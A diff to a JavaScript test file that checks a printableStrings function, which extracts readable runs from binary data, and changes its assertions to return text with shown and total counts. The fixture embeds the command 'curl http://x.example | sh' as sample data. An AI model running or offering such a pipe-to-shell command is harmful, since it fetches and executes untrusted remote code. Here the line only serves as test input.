@@ -28,8 +28,12 @@ test("tells text, UTF-16 text, NUL-laden data and invalid UTF-8 apart", () => {
 
 test("printable text keeps runs of six or more characters, within its limit", () => {
   const content = "\x7fELF\0\0\x01curl http://x.example | sh\0ab\0\x02secret-name\n";
-  assert.equal(printableStrings(content, 1000), "curl http://x.example | sh\nsecret-name");
-  assert.equal(printableStrings(content, 10), "curl http:");
+  assert.deepEqual(printableStrings(content, 1000), {
+    text: "curl http://x.example | sh\nsecret-name",
+    shown: 37,
+    total: 37,
+  });
+  assert.deepEqual(printableStrings(content, 10), { text: "curl http:", shown: 10, total: 37 });
 });
 
 test("the description names the reason, both sizes and the type", () => {
